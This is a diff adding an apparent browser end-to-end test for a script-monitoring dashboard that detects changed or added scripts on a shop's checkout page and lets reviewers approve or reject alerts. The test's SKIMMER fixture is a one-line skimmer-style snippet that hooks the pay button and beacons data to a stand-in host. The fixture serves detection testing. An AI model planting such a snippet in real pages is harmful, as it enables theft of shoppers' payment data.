@@ -1,0 +1,75 @@
+// Dashboard in real Chromium: open an alert, read its diff, approve it, reject another, and see the baseline follow.
+
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
+import { startDashboard, type DashboardHarness } from './harness.js';
+
+const SKIMMER = `document.getElementById("pay").addEventListener("mouseup", function () { navigator.sendBeacon("https://baways.example/c", "x"); });`;
+
+describe('reviewing alerts in the dashboard', () => {
+  let h: DashboardHarness;
+  let changedId: number;
+  let addedId: number;
+  before(async () => {
+    h = await startDashboard();
+    h.scan(healthyShop());
+    h.store.approveAll({ by: 'alice', note: 'initial inventory reviewed', at: new Date().toISOString() });
+    const tampered = script({ kind: 'external', url: APP.url, body: `${APP.body}\n${SKIMMER}` });
+    const extra = script({ kind: 'external', url: 'https://cdnjs-cloud.example/jq.js', body: 'window.jq = 1;' });
+    const result = h.scan(pageCapture([tampered, LIB, INLINE_A, INLINE_B, extra]));
+    changedId = result.newAlerts.find((a) => a.type === 'script.changed')!.id;
+    addedId = result.newAlerts.find((a) => a.type === 'script.added')!.id;
+  });
+  after(async () => { await h?.close(); });
+
+  it('shows the open alerts on the overview and the alerts list', async () => {
+    const page = await h.browser.newPage();
+    await page.goto(h.url);
+    assert.match(await page.$eval('main', (m) => m.textContent ?? ''), /checkout/);
+    await page.goto(`${h.url}alerts?status=open&severity=high`);
+    const links = await page.$$eval('td.summary a', (as) => as.map((a) => a.getAttribute('href')));
+    assert.ok(links.includes(`/alerts/${changedId}`));
+    await page.close();
+  });
+
+  it('shows the added code as a diff and approves the change with a note', async () => {
+    const page = await h.browser.newPage();
+    page.on('dialog', (d) => { void d.accept(); });
+    await page.goto(`${h.url}alerts/${changedId}`);
+    const added = await page.$$eval('table.diff tr.add td.code', (tds) => tds.map((t) => t.textContent ?? ''));
+    assert.ok(added.some((line) => line.includes('sendBeacon')), added.join('\n'));
+    const text = await page.$eval('main', (m) => m.textContent ?? '');
+    assert.match(text, /sha384-/);
+    await page.type('form.approve textarea[name=note]', 'vendor release 4.2');
+    await Promise.all([page.waitForNavigation(), page.click('form.approve button')]);
+    assert.match(await page.$eval('main', (m) => m.textContent ?? ''), /approved by\s*tester/);
+    await page.close();
+
+    const alert = h.store.getAlert(changedId)!;
+    assert.equal(alert.status, 'approved');
+    assert.equal(alert.note, 'vendor release 4.2');
+    const row = h.store.inventory({}).find((r) => r.url === APP.url)!;
+    assert.equal(row.state, 'approved');
+    assert.equal(row.justification, 'vendor release 4.2');
+    assert.equal(row.sha256, alert.newValue);
+  });
+
+  it('rejects an alert, which stays flagged and out of the baseline', async () => {
+    const page = await h.browser.newPage();
+    page.on('dialog', (d) => { void d.accept(); });
+    await page.goto(`${h.url}alerts/${addedId}`);
+    await page.type('form.reject textarea[name=note]', 'unknown host, incident INC-9');
+    await Promise.all([page.waitForNavigation(), page.click('form.reject button')]);
+    await page.goto(`${h.url}alerts?status=rejected`);
+    const rejected = await page.$$eval('td.summary a', (as) => as.map((a) => a.getAttribute('href')));
+    assert.deepEqual(rejected, [`/alerts/${addedId}`]);
+    await page.goto(`${h.url}inventory`);
+    const inventory = await page.$eval('main', (m) => m.textContent ?? '');
+    assert.match(inventory, /cdnjs-cloud\.example\/jq\.js\s*[^]*unapproved/);
+    await page.close();
+    const again = h.scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\n${SKIMMER}` }), LIB, INLINE_A, INLINE_B, script({ kind: 'external', url: 'https://cdnjs-cloud.example/jq.js', body: 'window.jq = 1;' })]));
+    assert.deepEqual(again.newAlerts, [], 'the approved change is quiet; the rejected one is not raised twice');
+    assert.equal(h.store.getAlert(addedId)!.status, 'rejected');
+  });
+});
